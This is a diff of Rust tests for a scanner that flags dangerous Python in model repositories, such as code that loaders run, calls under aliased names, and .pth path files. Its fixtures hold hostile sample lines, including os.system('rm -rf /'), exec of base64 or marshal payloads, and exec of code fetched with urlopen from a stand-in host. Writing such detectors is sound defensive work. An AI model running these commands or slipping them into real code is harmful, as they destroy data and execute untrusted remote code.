@@ -1,4 +1,4 @@
-//! Programs: dangerous calls are found under whatever name they go, and code that only defines models is a note.
+//! Programs: what loaders run needs trust whatever is in it, and what they do not run needs trust by its words.
 
 use crate::repository_support::{folder, found, look, only, rules};
 use max_weights::rules::{Answer, Severity};
@@ -6,18 +6,37 @@ use max_weights::rules::{Answer, Severity};
 /// A configuration by which loaders run modeling_x.py.
 const CONFIG: (&str, &str) = ("config.json", r#"{"model_type": "x", "auto_map": {"AutoModel": "modeling_x.X"}}"#);
 
-/// The rules that a program breaks that loaders run.
-fn run(program: &str) -> Vec<&'static str> {
-    rules(&[CONFIG, ("modeling_x.py", program)])
-}
-
 /// The rules that a program breaks that nothing makes loaders run.
 fn beside(program: &str) -> Vec<&'static str> {
     rules(&[("tool.py", program)])
 }
 
 #[test]
-fn what_a_program_calls_as_it_is_imported_is_malicious_under_every_name() {
+fn a_program_that_a_configuration_names_needs_trust_whatever_is_in_it() {
+    let program = "import torch\nfrom .configuration_x import XConfig\n\nclass X(torch.nn.Module):\n    pass\n";
+    let files =
+        [CONFIG, ("modeling_x.py", program), ("configuration_x.py", "from . import (a,\n  b as c)\n"), ("b.py", "")];
+    let found = found(&[&files[..3], &[("b.py", "x = 1\n"), ("d.py", "x = 1\n")]].concat());
+    let run: Vec<_> = found.iter().filter(|found| found.rule == "repository.program-run").collect();
+    assert!(run.iter().all(|found| found.answer == Answer::NeedsTrust));
+    let whys = run.iter().map(|found| (found.file.as_str(), found.message.rsplit(": ").next().unwrap_or_default()));
+    assert_eq!(
+        whys.collect::<Vec<_>>(),
+        [
+            ("b.py", "configuration_x.py imports it, which loaders run"),
+            ("configuration_x.py", "modeling_x.py imports it, which loaders run"),
+            ("modeling_x.py", "config.json makes loaders run it"),
+        ]
+    );
+    assert_eq!(only("repository.program", &found).file, "d.py");
+    assert_eq!(
+        rules(&[CONFIG, ("modeling_x.py", "import os\nos.system('id')\n")]),
+        ["repository.program-run", "repository.remote-code"]
+    );
+}
+
+#[test]
+fn a_program_that_nothing_runs_needs_trust_by_its_words_under_whatever_name() {
     for program in [
         "import os\nos.system('id')\n",
         "import os as o\no.system('id')\n",
@@ -77,96 +96,63 @@ fn what_a_program_calls_as_it_is_imported_is_malicious_under_every_name() {
         "import urllib.request\nurllib.request.urlopen('http://a')\n",
         "import requests\nrequests.get('http://a')\n",
         "import ctypes\nctypes.CDLL('a.so')\n",
-        "import pickle\npickle.load(open('a', 'rb'))\n",
-        "import torch\nx = torch.load('a.bin')\n",
-        "import numpy as np\nnp.load('a.npy', allow_pickle = True)\n",
+        "import sys, os, \\\n  requests\n",
+        "import os\nx = os.__dict__['system']\n",
+        "import os\nf = [os][0]\n",
+        "import torch\ntorch.hub.load('a/b', 'c')\n",
         "x = (1,\nimport os\nos.system('id')\n",
         "print 'x'\nexec 'import os'\n",
     ] {
-        let rules = run(program);
-        assert!(rules.contains(&"repository.call-at-import"), "{program}: {rules:?}");
+        assert_eq!(beside(program), ["repository.call"], "{program}");
     }
 }
 
 #[test]
-fn calls_in_functions_need_trust_and_say_where_they_stand() {
-    let program = "import os\n\nclass X:\n    def forward(self):\n        os.system('rm -rf /')\n";
-    let found = found(&[CONFIG, ("modeling_x.py", program)]);
+fn the_word_is_said_with_its_line_and_its_statement() {
+    let program = "import os\n\nclass X:\n    def forward(self):\n        x = 1; os.system('rm -rf /')\n";
+    let found = found(&[("tool.py", program)]);
     let call = only("repository.call", &found);
-    assert_eq!((call.answer, call.file.as_str()), (Answer::NeedsTrust, "modeling_x.py"));
-    assert!(call.message.starts_with("line 5: os.system "), "{}", call.message);
-    assert!(call.message.contains("config.json"), "who runs it: {}", call.message);
+    assert_eq!((call.answer, call.file.as_str()), (Answer::NeedsTrust, "tool.py"));
+    assert!(call.message.starts_with("line 5: ") && call.message.contains("the word system,"), "{}", call.message);
     assert_eq!(call.evidence, "os.system('rm -rf /')");
-    for program in [
-        "import torch\ndef f(p):\n    return torch.load(p)\n",
-        "import requests\ndef f(p):\n    return requests.get(p)\n",
-        "def f(p):\n    return eval(p)\n",
-        "if __name__ == '__main__':\n    exec('1')\n",
-    ] {
-        assert_eq!(run(program), ["repository.call", "repository.remote-code"], "{program}");
-    }
 }
 
 #[test]
-fn code_that_defines_models_is_a_note() {
+fn code_that_trains_and_defines_models_is_a_note() {
     let program = "
+# The system runs eval on the code; pip install x. Other commands: see http://a/b
 import math
-import re
+import os, re, sys
 import torch
 import torch.nn as nn
+from huggingface_hub import hf_hub_download
+from os import path
 from transformers import PreTrainedModel
 from .configuration_x import XConfig
 logger = logging.get_logger(__name__)
 pattern = re.compile('a')
-torch.load('a', weights_only=True)
-__import__('math')
+messages = [{'role': 'system', \"content\": \"\"}, {'role': \"system\"}]
+sys.path.append(os.path.join(os.environ['HOME'], 'x'))
 
 @torch.compile
 class X(PreTrainedModel):
     config_class = XConfig
-    def __init__(self, config, eval=False):
+    def __init__(self, config, eval=False, system: str = 'a'):
         super().__init__(config)
-        self.eval = eval
+        self.eval = None
     def run(self, compile=None):
         self.model.eval()
-        self.system = self.os.path
-        return torch.compile(self), self.exec(1), torch.linalg.eval(1)
+        return torch.compile(self), self.exec(1), torch.linalg.eval(1), getattr(self, 'a'), sys.argv[1]
 
 def load(path):
     return json.load(open(path))
+
+if __name__ == '__main__':
+    sys.exit(main())
 ";
-    let found = found(&[CONFIG, ("modeling_x.py", program), ("configuration_x.py", "class XConfig: pass\n")]);
-    let severe: Vec<_> = found.iter().filter(|found| found.severity > Severity::Note).map(|found| found.rule).collect();
-    assert_eq!(severe, ["repository.remote-code"], "{found:#?}");
-    let notes: Vec<_> = found.iter().filter(|found| found.rule == "repository.program").collect();
-    assert!(notes.iter().any(|note| note.message.contains("modeling_x.py imports it")), "{notes:#?}");
-}
-
-#[test]
-fn a_program_that_no_loader_runs_is_judged_more_mildly_unless_it_hides_what_it_does() {
-    assert!(beside("import torch\ntorch.load('a')\n").is_empty());
-    assert!(beside("import requests\ndef f():\n    requests.get('http://a')\n").is_empty());
-    assert_eq!(beside("import requests\nrequests.get('http://a')\n"), ["repository.call"]);
-    assert_eq!(beside("import os\nos.system('id')\n"), ["repository.call"]);
-    for program in [
-        "import base64\nexec(base64.b64decode('eA=='))\n",
-        "import zlib\ncode = zlib.decompress(b'x')\nexec(code)\n",
-        "import urllib.request\nexec(urllib.request.urlopen('http://a').read())\n",
-        "import marshal\nexec(marshal.loads(b'x'))\n",
-        "exec(bytes.fromhex('78'))\n",
-    ] {
-        assert!(beside(program).contains(&"repository.call-at-import"), "{program}");
-    }
-}
-
-#[test]
-fn programs_that_run_by_their_names_are_judged_as_run() {
-    for name in
-        ["handler.py", "hubconf.py", "conftest.py", "__init__.py", "modeling_y.py", "custom_generate/generate.py"]
-    {
-        let found = rules(&[(name, "import os\nos.system('id')\n")]);
-        assert!(found.contains(&"repository.call-at-import"), "{name}: {found:?}");
-    }
+    let found = found(&[("train.py", program)]);
+    assert_eq!(only("repository.program", &found).severity, Severity::Note, "{found:#?}");
+    assert_eq!(found.len(), 1, "{found:#?}");
 }
 
 #[test]
@@ -177,13 +163,16 @@ fn a_program_that_runs_by_its_name_alone_needs_trust_whatever_is_in_it() {
         "pipeline.py",
         "sitecustomize.py",
         "usercustomize.py",
+        "__init__.py",
+        "conftest.py",
+        "modeling_x.py",
         "code/inference.py",
         "custom_generate/generate.py",
     ] {
         let finding = only("repository.program-run", &found(&[(name, "import torch\n")]));
         assert_eq!(finding.answer, Answer::NeedsTrust, "{name}");
     }
-    for name in ["__init__.py", "train.py", "generate.py", "inference.py", "modeling_x.py"] {
+    for name in ["train.py", "generate.py", "inference.py"] {
         assert_eq!(rules(&[(name, "import torch\n")]), [""; 0], "{name}");
     }
 }
@@ -209,32 +198,10 @@ fn a_program_in_an_encoding_that_hides_it_is_malicious() {
 }
 
 #[test]
-fn what_is_no_python_is_said_and_hides_nothing() {
-    assert_eq!(beside("def f(:\n    <<<<\n"), ["repository.program-unreadable"]);
-    let zeros = folder(&[("tool.py", b"x = 1\n\0import os\nos.system('id')\n")]);
-    let found: Vec<_> = look(zeros.path()).iter().map(|found| found.rule).collect();
-    assert!(found.contains(&"repository.program-unreadable") && found.contains(&"repository.call"), "{found:?}");
-}
-
-#[test]
-fn no_nesting_is_too_deep() {
-    let many = 20_000;
-    for program in [
-        format!("x = {}1{}\n", "(".repeat(many), ")".repeat(many)),
-        format!("x = {}1\n", "-".repeat(many)),
-        format!("x = {}1\n", "not ".repeat(many)),
-        format!("x = {}1\n", "lambda: ".repeat(many)),
-        format!("x = a{}\n", ".b".repeat(many)),
-        format!("x = a{}\n", "()".repeat(many)),
-        format!("x = 1{}\n", " + 1".repeat(many)),
-        format!("x = 1{}\n", " ** 1".repeat(many)),
-        format!("x = 1{}\n", " if 1 else 1".repeat(many)),
-        format!("x = {}", "f'{".repeat(many)),
-        "[".repeat(many),
-        "\"\"\"".repeat(many),
-        (0..500).map(|depth| " ".repeat(depth) + "if x:\n").collect(),
-    ] {
-        look(folder(&[("modeling_x.py", (program + "\nimport os\nos.system('id')\n").as_bytes())]).path());
+fn what_is_no_python_hides_nothing() {
+    for program in [&b"x = 1\n\0import os\nos.system('id')\n"[..], b"\xff\xfe\ndef f(:\n <<<<\nos.system('id')\n"] {
+        let found: Vec<_> = look(folder(&[("tool.py", program)]).path()).iter().map(|found| found.rule).collect();
+        assert_eq!(found, ["repository.call"]);
     }
 }
 
@@ -260,7 +227,7 @@ fn notebooks_are_read_as_programs() {
 fn a_file_for_the_paths_of_python_is_no_weights() {
     let found = found(&[("evil.pth", "/some/path\nimport os; os.system('id')\n")]);
     assert_eq!(only("repository.path-file", &found).answer, Answer::NeedsTrust);
-    assert!(only("repository.call-at-import", &found).message.contains("line 2"));
+    assert!(only("repository.path-file", &found).message.contains("line 2"));
     assert!(rules(&[("paths.pth", "/some/path\n")]).is_empty());
 }
 
